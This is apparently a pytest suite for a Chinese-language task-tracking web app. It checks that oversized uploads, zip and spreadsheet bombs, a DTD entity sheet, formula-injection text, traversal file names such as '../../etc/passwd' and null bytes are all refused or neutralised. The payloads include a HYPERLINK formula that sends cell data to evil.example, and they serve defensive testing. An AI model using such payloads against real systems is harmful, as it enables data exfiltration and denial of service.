"""Issue 13's limits: request bodies refused before they are read, evidence per post, report and sheet
bombs, row caps, formula-free exports, file names, far dates and text the database cannot store.

The request-size tests drive the ASGI app directly with a body generator that records how much of
the body the app pulled: a refused body must not be read at all.
"""

from __future__ import annotations

import asyncio
import io
import time
import zipfile
from datetime import date

import pytest
from fastapi.testclient import TestClient
from openpyxl import Workbook, load_workbook
from sqlalchemy import select

from tests.web_helpers import ADMIN, MINIMAL_PDF, OWN, csrf_from, login, seed, web_env
from tracker import config, lifecycle, users
from tracker.db import session_scope
from tracker.errors import ValidationFailed
from tracker.evidence import clean_filename
from tracker.excel import export_ledger, import_assignments
from tracker.extraction import ExtractionError
from tracker.extraction.decode import decode_bytes
from tracker.models import Task
from tracker.web.app import create_app

MB = 1024 * 1024


@pytest.fixture(scope="module")
def world(tmp_path_factory):
    with web_env(tmp_path_factory.mktemp("limits")) as engine:
        seed(engine)
        with session_scope(engine) as s:
            task_id = s.execute(select(Task.id).order_by(Task.id)).scalars().first()
            lifecycle.assign(
                s,
                actor=users.get_user(s, name=ADMIN),
                task_ids=[task_id],
                owner_unit="司法所",
                owner_person="张三",
                deadline=date(2031, 6, 30),
                category="长期坚持",
            )
            admin_token = users.issue_token(s, name=ADMIN)
            own_token = users.issue_token(s, name=OWN)
        yield create_app(engine=engine), engine, task_id, {"admin": admin_token, "own": own_token}


@pytest.fixture
def settings_env(monkeypatch):
    """Set RECTIFY_* variables for one test; the cached settings follow."""

    def set_env(**values):
        for k, v in values.items():
            monkeypatch.setenv(f"RECTIFY_{k.upper()}", str(v))
        config.get_settings.cache_clear()

    yield set_env
    monkeypatch.undo()
    config.get_settings.cache_clear()


# ---- request bodies refused unread -------------------------------------------------------------------


def _call(app, method: str, path: str, headers: dict[str, str], chunks, *, chunk_size: int = 64 * 1024):
    """Run one request through the ASGI app; `chunks` is an iterable of body chunks pulled lazily.
    Returns (status, body, bytes of the request body the app consumed)."""
    consumed = 0
    body_iter = iter(chunks)
    sent = {"status": None, "body": b""}

    async def receive():
        nonlocal consumed
        chunk = next(body_iter, None)
        if chunk is None:
            return {"type": "http.request", "body": b"", "more_body": False}
        consumed += len(chunk)
        return {"type": "http.request", "body": chunk, "more_body": True}

    async def send(message):
        if message["type"] == "http.response.start":
            sent["status"] = message["status"]
        elif message["type"] == "http.response.body":
            sent["body"] += message.get("body", b"")

    scope = {
        "type": "http",
        "asgi": {"version": "3.0"},
        "http_version": "1.1",
        "method": method,
        "scheme": "http",
        "path": path,
        "raw_path": path.encode(),
        "query_string": b"",
        "root_path": "",
        "headers": [(k.lower().encode(), v.encode()) for k, v in headers.items()],
        "client": ("127.0.0.1", 5000),
        "server": ("127.0.0.1", 8000),
    }
    asyncio.run(app(scope, receive, send))
    return sent["status"], sent["body"].decode("utf-8", "replace"), consumed


def _endless(chunk_size: int = 64 * 1024):
    """A multipart body whose one file never ends (300 MB and more), as an attacker would stream it."""
    yield (
        b'--XyZ\r\nContent-Disposition: form-data; name="files"; filename="a.pdf"\r\n'
        b"Content-Type: application/pdf\r\n\r\n%PDF-"
    )
    chunk = b"A" * chunk_size
    while True:
        yield chunk


MULTIPART = {"content-type": "multipart/form-data; boundary=XyZ"}


def test_anonymous_upload_is_refused_before_its_body_is_read(world):
    app, _, task_id, _ = world
    status, body, consumed = _call(app, "POST", "/api/v1/reports", MULTIPART, _endless())
    assert (status, consumed) == (401, 0)
    assert "未登录" in body
    status, body, consumed = _call(app, "POST", f"/tasks/{task_id}/progress", MULTIPART, _endless())
    assert (status, consumed) == (401, 0)
    assert "请先登录" in body and "<html" in body


def test_declared_oversized_body_is_refused_before_it_is_read(world):
    app, _, task_id, tokens = world
    headers = MULTIPART | {"content-length": str(300 * MB), "authorization": f"Bearer {tokens['own']}"}
    status, body, consumed = _call(app, "POST", f"/api/v1/tasks/{task_id}/progress", headers, _endless())
    assert (status, consumed) == (413, 0)
    assert "超过 120 MB" in body
    # anonymous and not multipart (the login form): still refused by size first
    status, _, consumed = _call(
        app,
        "POST",
        "/login",
        {"content-type": "application/x-www-form-urlencoded", "content-length": str(300 * MB)},
        _endless(),
    )
    assert (status, consumed) == (413, 0)


def test_streamed_body_without_length_stops_at_the_limit(world, settings_env):
    app, _, task_id, tokens = world
    settings_env(max_request_mb=1)
    headers = MULTIPART | {"authorization": f"Bearer {tokens['own']}"}  # chunked: no Content-Length
    started = time.monotonic()
    status, body, consumed = _call(app, "POST", f"/api/v1/tasks/{task_id}/progress", headers, _endless())
    assert status == 413 and "超过 1 MB" in body
    assert MB < consumed <= MB + 65 * 1024  # read up to the limit, not a chunk more
    assert time.monotonic() - started < 5


# ---- evidence per progress post ----------------------------------------------------------------------


def test_evidence_count_and_total_size_per_post(world, settings_env):
    app, engine, task_id, tokens = world
    client = TestClient(app, raise_server_exceptions=False)
    auth = {"Authorization": f"Bearer {tokens['own']}"}

    def post(files):
        with session_scope(engine) as s:
            version = s.get(Task, task_id).version
        return client.post(
            f"/api/v1/tasks/{task_id}/progress",
            headers=auth,
            data={"version": version, "note": "进展"},
            files=[("files", (f"证明{i}.pdf", data, "application/pdf")) for i, data in enumerate(files)],
        )

    r = post([MINIMAL_PDF] * 11)
    assert r.status_code == 422 and "一次最多上传 10 个佐证材料，本次选择了 11 个" in r.json()["detail"]
    settings_env(evidence_max_mb=1)
    big = MINIMAL_PDF + b"%" * (600 * 1024)
    r = post([big, big])
    assert r.status_code == 422 and "超过每次 1 MB 的上限" in r.json()["detail"]
    assert post([big]).status_code == 200


# ---- report and sheet bombs --------------------------------------------------------------------------


def _zip(parts: dict[str, bytes | int]) -> bytes:
    """A zip whose int-valued parts are that many bytes of spaces (tiny once deflated)."""
    buf = io.BytesIO()
    with zipfile.ZipFile(buf, "w", zipfile.ZIP_DEFLATED) as zf:
        for name, content in parts.items():
            if isinstance(content, int):
                with zf.open(name, "w") as fh:
                    block = b" " * MB
                    for _ in range(content // MB):
                        fh.write(block)
            else:
                zf.writestr(name, content)
    return buf.getvalue()


_DOC = (
    b'<?xml version="1.0" encoding="UTF-8"?><w:document xmlns:w="http://schemas.openxmlformats.org/'
    b'wordprocessingml/2006/main"><w:body><w:p><w:r><w:t>x</w:t></w:r></w:p>'
)


def test_docx_whose_document_inflates_past_30_mb_is_refused_unparsed():
    bomb = _zip({"[Content_Types].xml": b"<Types/>", "word/document.xml": 40 * MB})
    assert len(bomb) < 200 * 1024
    started = time.monotonic()
    with pytest.raises(ExtractionError, match=r"word/document.xml 解压后为 40 MB，超过 30 MB 的上限"):
        decode_bytes(bomb, "炸弹.docx")
    assert time.monotonic() - started < 2


def _sheet_bytes(rows) -> bytes:
    wb = Workbook(write_only=True)
    ws = wb.create_sheet("整改台账")
    ws.append(["任务编号", "版本", "类型", "责任单位", "责任人", "整改时限"])
    for row in rows:
        ws.append(row)
    buf = io.BytesIO()
    wb.save(buf)
    return buf.getvalue()


def _rows_bomb(n: int) -> bytes:
    """An .xlsx of `n` filled rows built straight as XML (small on disk, quick to build)."""
    real = zipfile.ZipFile(io.BytesIO(_sheet_bytes([])))
    parts = {name: real.read(name) for name in real.namelist()}
    sheet = next(name for name in parts if name.startswith("xl/worksheets/"))
    rows = b"".join(
        b'<row r="%d"><c r="A%d"><v>%d</v></c><c r="B%d"><v>1</v></c><c r="D%d" t="inlineStr"><is><t>'
        b"x</t></is></c></row>" % (i, i, i, i, i)
        for i in range(2, n + 2)
    )
    parts[sheet] = parts[sheet].replace(b"</sheetData>", rows + b"</sheetData>")
    return _zip(parts)


def test_sheet_rows_are_capped_without_reading_the_rest(world, settings_env):
    _, engine, _, _ = world
    bomb = _rows_bomb(200_000)  # ~ 20 MB of sheet XML, 20 times the cap
    assert len(bomb) < 4 * MB
    with session_scope(engine) as s:
        admin = users.get_user(s, name=ADMIN)
        started = time.monotonic()
        with pytest.raises(ValidationFailed, match="超过每次导入 10000 行的上限"):
            import_assignments(s, actor=admin, source=bomb)
        assert time.monotonic() - started < 5
        settings_env(import_max_rows=3)
        with pytest.raises(ValidationFailed, match="超过每次导入 3 行的上限"):
            import_assignments(
                s,
                actor=admin,
                source=_sheet_bytes([[i, 1, "限期整改", "司法所", "张三", "2031-01-01"] for i in range(1, 5)]),
            )
        big = _zip({"[Content_Types].xml": b"<Types/>", "xl/sharedStrings.xml": 40 * MB})
        with pytest.raises(ValidationFailed, match="xl/sharedStrings.xml 解压后为 40 MB，超过 30 MB 的上限"):
            import_assignments(s, actor=admin, source=big)


_DTD = (
    b'<?xml version="1.0"?><!DOCTYPE lol [<!ENTITY lol "lol"><!ENTITY lol2 "&lol;&lol;&lol;&lol;">]>'
    b'<sst xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main" count="1" uniqueCount="1">'
    b"<si><t>&lol2;</t></si></sst>"
)


def _with_dtd() -> bytes:
    real = zipfile.ZipFile(io.BytesIO(_sheet_bytes([[1, 1, "限期整改", "司法所", "张三", "2031-01-01"]])))
    parts = {name: real.read(name) for name in real.namelist()}
    parts["xl/sharedStrings.xml"] = _DTD
    return _zip(parts)


def test_malformed_sheet_is_a_chinese_422(world):
    app, _, _, _ = world
    client = TestClient(app, raise_server_exceptions=False)
    login(client, ADMIN)
    csrf = csrf_from(client.get("/tasks/import").text)
    for data in (_with_dtd(), b"PK\x03\x04 not really a zip", _zip({"xl/workbook.xml": b"<broken"})):
        r = client.post(
            "/tasks/import",
            files={"file": ("台账.xlsx", data, "application/octet-stream")},
            headers={"X-CSRF-Token": csrf},
        )
        assert r.status_code == 422, r.text[:300]
        assert "不是有效的 Excel" in r.text or "含有 DTD 声明，不是 Excel 保存的表格" in r.text


# ---- exports write user text as text -----------------------------------------------------------------

FORMULAS = ['=HYPERLINK("http://evil.example/?"&D2,"详情")', "+1+1", "-2+3", "@SUM(A1:A2)", "\t=1", "\r=1"]


def test_ledger_export_writes_formula_like_text_as_text(world):
    _, engine, task_id, _ = world
    with session_scope(engine) as s:
        admin = users.get_user(s, name=ADMIN)
        lifecycle.assign(
            s,
            actor=admin,
            task_ids=[task_id],
            owner_unit=FORMULAS[0],
            owner_person="=1+2",
            deadline=date(2031, 6, 30),
            category="长期坚持",
        )
        lifecycle.post_progress(s, actor=users.get_user(s, name=OWN), task_id=task_id, version=None, note=FORMULAS[1])
        s.get(Task, task_id).title = FORMULAS[3]
        buf = io.BytesIO()
        export_ledger(s, actor=admin, path_or_buffer=buf)
        s.rollback()
    ws = load_workbook(io.BytesIO(buf.getvalue()))["整改台账"]
    header = [c.value for c in ws[1]]
    row = next(r for r in ws.iter_rows(min_row=2) if r[header.index("任务编号")].value == task_id)
    cells = {c.value: c for c in row}  # owner unit, owner person, latest note, title: whichever column
    for expected in (FORMULAS[0], "=1+2", FORMULAS[1], FORMULAS[3]):
        assert expected in cells and cells[expected].data_type == "s", expected
    formulas = [c.coordinate for r in ws.iter_rows() for c in r if c.data_type == "f"]
    assert not formulas


def test_county_summary_cells_are_text():
    from tracker.yearend import county

    wb = Workbook(write_only=True)
    ws = wb.create_sheet("t")
    ws.append([county._cell(ws, v) for v in FORMULAS + ["普通文字", 3]])
    buf = io.BytesIO()
    wb.save(buf)
    row = next(load_workbook(io.BytesIO(buf.getvalue()))["t"].iter_rows())
    assert [c.data_type for c in row] == ["s"] * (len(FORMULAS) + 1) + ["n"]
    assert [c.value for c in row][: len(FORMULAS)] == [county.gbt9704.xml_safe(v) for v in FORMULAS]


# ---- file names, far dates, big ids, unstorable text ---------------------------------------------------


def test_file_names():
    assert clean_filename("C:\\Users\\a\\报告.docx") == "报告.docx"
    long = "很长的名字" * 30 + ".docx"
    cleaned = clean_filename(long)
    assert cleaned.endswith(".docx") and len(cleaned.encode()) <= 255
    for bad in ("..", "a/..", ". .", "a\x00b.txt", "a\nb.txt", "\ud800.txt", ""):
        with pytest.raises(ValidationFailed):
            clean_filename(bad)


def test_report_uploads_with_bad_names_are_refused_not_500(world):
    app, _, _, tokens = world
    client = TestClient(app, raise_server_exceptions=False)
    auth = {"Authorization": f"Bearer {tokens['admin']}"}
    for name in ("..", "a\x00b.txt", "名" * 200 + ".txt", "../../etc/passwd"):
        r = client.post(
            "/api/v1/reports", headers=auth, files=[("files", (name, b"\xe6\xb5\x8b\xe8\xaf\x95", "text/plain"))]
        )
        assert r.status_code < 500, (name, r.text[:300])
        if r.status_code == 200:
            assert all(item["outcome"] == "failed" for item in r.json()), r.text
        else:
            assert r.status_code == 422 and "文件名" in r.json()["detail"]


def test_far_dates_and_huge_ids(world):
    app, _, _, tokens = world
    client = TestClient(app, raise_server_exceptions=False)
    client.headers["Authorization"] = f"Bearer {tokens['admin']}"
    for url in (
        "/yearend?as_of=0001-01-01",
        "/yearend?as_of=9999-12-31",
        "/yearend/county?as_of=0001-01-01",
        "/yearend/section.txt?as_of=9999-12-31",
        "/yearend/all.zip?as_of=9999-12-31",
    ):
        r = client.get(url)
        assert r.status_code == 422 and "超出范围" in r.text, url
    for url in (f"/api/v1/tasks/{2**64}", f"/tasks/{2**64}", f"/api/v1/evidence/{2**70}", f"/reports/{-(2**64)}"):
        assert client.get(url).status_code == 422, url
    r = client.post(
        "/api/v1/tasks/assign",
        json={
            "task_ids": [1],
            "owner_unit": "司法所",
            "owner_person": "张三",
            "deadline": "9999-12-31",
            "category": "限期整改",
        },
    )
    assert r.status_code == 422 and "整改时限 9999-12-31 超出范围" in r.json()["detail"]


def test_unstorable_text_is_refused_everywhere_it_comes_in(world):
    app, _, task_id, tokens = world
    client = TestClient(app, raise_server_exceptions=False)
    r = client.post(
        "/login", data={"name": "admin\x00", "password": "x", "csrf_token": csrf_from(client.get("/login").text)}
    )
    assert r.status_code == 422 and "无法保存的字符" in r.text
    auth = {"Authorization": f"Bearer {tokens['admin']}"}
    for url in ("/tasks?q=%00", "/tasks?owner=a%00", "/api/v1/tasks?township=%00", "/dashboard?county=%00"):
        r = client.get(url, headers=auth)
        assert r.status_code == 422 and "无法保存的字符" in r.text, url
    r = client.post(
        "/api/v1/tasks/assign",
        headers=auth,
        json={
            "task_ids": [task_id],
            "owner_unit": "司法\u0000所",
            "owner_person": "张三",
            "deadline": "2031-01-01",
            "category": "限期整改",
        },
    )
    assert r.status_code == 422 and "请求内容含有无法保存的字符" in r.json()["detail"]
    r = client.post(
        "/api/v1/tasks/assign",
        headers=auth,
        content=b'{"task_ids": [1], "owner_unit": "\\ud800"}',
    )
    assert r.status_code == 422
    r = client.post(
        f"/api/v1/tasks/{task_id}/progress",
        headers={"Authorization": f"Bearer {tokens['own']}"},
        data={"version": 1, "note": "进展\x00"},
    )
    assert r.status_code == 422 and "表单含有无法保存的字符" in r.json()["detail"]
